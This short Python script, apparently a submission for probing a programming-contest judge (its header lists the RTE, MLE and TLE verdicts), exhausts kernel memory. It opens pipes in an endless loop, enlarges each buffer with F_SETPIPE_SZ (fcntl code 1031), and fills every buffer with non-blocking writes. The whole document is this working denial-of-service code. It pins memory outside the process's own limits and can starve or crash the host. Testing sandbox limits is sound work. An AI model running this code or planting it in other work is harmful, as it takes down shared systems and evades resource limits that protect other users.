# RTE MLE TLE
# Keeps memory of the kernel in pipes, their buffers made as big as may be.
import fcntl, os
pipes = []
while True:
    read, write = os.pipe()
    try: fcntl.fcntl(write, 1031, 1 << 20)  # F_SETPIPE_SZ
    except OSError: pass
    os.set_blocking(write, False)
    try:
        while True: os.write(write, bytes(1 << 16))
    except BlockingIOError: pass
    pipes.append((read, write))
